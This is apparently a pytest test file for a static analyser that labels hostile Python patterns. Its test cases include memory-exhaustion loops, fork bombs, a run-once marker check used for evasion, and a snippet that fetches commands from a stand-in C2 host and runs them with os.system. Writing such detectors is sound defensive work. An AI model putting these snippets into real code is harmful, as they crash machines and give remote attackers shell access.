"""What a Python file does again and again, once only, or to one of several ends."""

import pytest

from pratique.facts.scan.observation import Context
from tests.facts.languages.python_seen import seen


def labels(text: str, context: Context = Context.MODULE_TOP) -> set[str]:
    return {each.label for each in seen(text, context)}


@pytest.mark.parametrize(
    "text",
    [
        "a = 'x'\nwhile True:\n    a += a",
        "a = 'x'\nwhile 1:\n    a = a + a",
        "a = [1]\nwhile True:\n    a *= 2",
        "a = 2\nwhile True:\n    a **= 2",
        "a = 2\nwhile True:\n    a = a * 3",
        "a = 'x' * 10 ** 10",
        "a = [0] * 10 ** 10",
        "a = 2 ** 40 * b'ab'",
        "a = [0] * (1 << 33)",
        "a = ('x' * 1_000) * 10_000_000",
        "exec('a = 1\\nwhile True:\\n    a += a')",
    ],
)
def test_what_fills_the_memory_is_told(text: str) -> None:
    assert "harm.memory" in labels(text)


@pytest.mark.parametrize(
    "text",
    [
        "a = 0\nwhile True:\n    a += 1",
        "a = b = ''\nwhile True:\n    a += b",
        "a = 'x'\nwhile len(a) < 9:\n    a += a",
        "a = 'x'\nwhile True:\n    a += a\n    if len(a) > 9:\n        break",
        "import time\na = 'x'\nwhile True:\n    a += a\n    time.sleep(1)",
        "def f(a):\n    while True:\n        a += a\n        return a",
        "a = 1\nwhile True:\n    a *= 1",
        "a = 1\nwhile True:\n    a -= a",
        "a = 'x' * 80",
        "a = [0] * 2 ** 29",
        "a = 10 ** 10 * 3",
        "a = [0] * b",
        "a = 2 ** 10 ** 10 ** 10",
        "a = 2 ** -1",
    ],
)
def test_what_grows_by_little_or_ends_is_not(text: str) -> None:
    assert "harm.memory" not in labels(text)


@pytest.mark.parametrize(
    ("text", "storm"),
    [
        ("import os\nwhile True:\n    os.fork()", True),
        ("from os import fork as f\nwhile 1:\n    f()", True),
        ("exec('import os; os.fork()')", True),
        ("import os\nos.fork()", False),
        ("import os\nwhile True:\n    if os.fork() == 0:\n        break", False),
        ("import os, socket\ns = socket.socket()\nwhile True:\n    s.accept()\n    os.fork()", False),
        ("import os\nwhile True:\n    pass\nos.fork()", False),
    ],
)
def test_a_process_that_is_doubled_without_end_is_told(text: str, storm: bool) -> None:  # noqa: FBT001 - a row
    assert ("proc.storm" in labels(text)) is storm


@pytest.mark.parametrize(
    ("text", "once"),
    [
        ("import os\nif not os.path.exists('/tmp/.a'):\n    open('/tmp/.a', 'w')", True),
        (
            "from os.path import isfile as f\nM = '/tmp/' + '.a'\nif not f(M):\n    with open(M, 'x'):\n        pass",
            True,
        ),
        ("import os\nif os.path.exists('/tmp/.a'):\n    open('/tmp/.a')", False),
        ("import os\nif os.path.exists('/tmp/.a'):\n    open('/tmp/.b', 'w')", False),
        ("import os\ndef f(path):\n    if os.path.exists(path):\n        open(path, 'w')", False),
        ("open('/tmp/.a', 'w')\nimport os\nos.path.exists('/tmp/.a')", False),
    ],
)
def test_a_mark_that_is_looked_for_before_it_is_left_is_told(text: str, once: bool) -> None:  # noqa: FBT001 - a row
    assert ("evade.once_marker" in labels(text)) is once


@pytest.mark.parametrize(
    "choice",
    [
        "{'run': run, 'say': say}[order['name']](order['argument'])",
        "{'run': run, 'say': say}.get(order['name'])(order['argument'])",
        "ACTIONS[order['name']](order['argument'])",
        "chosen = ACTIONS.get(order['name'], say)\n    chosen(order['argument'])",
    ],
)
def test_a_function_chosen_by_what_came_in_is_followed_with_what_came_in(choice: str) -> None:
    text = (
        "import os, requests\n\n"
        "def run(text):\n    os.system(text)\n\n"
        "def say(text):\n    print(text)\n\n"
        "ACTIONS = {'run': run, 'say': say}\n\n"
        "def obey():\n    order = requests.get('https://c2.example.invalid/').json()\n"
        f"    {choice}\n"
    )
    assert any(each.label == "proc.shell" and each.gets("net.http") for each in seen(text))


def test_a_mapping_of_other_things_chooses_nothing() -> None:
    text = "import os\nNAMES = {'a': 'true', 'b': 'false'}\ndef f(name):\n    os.system(NAMES[name])\n"
    (run,) = [each for each in seen(text) if each.label == "proc.shell"]
    assert not run.gets("net.")
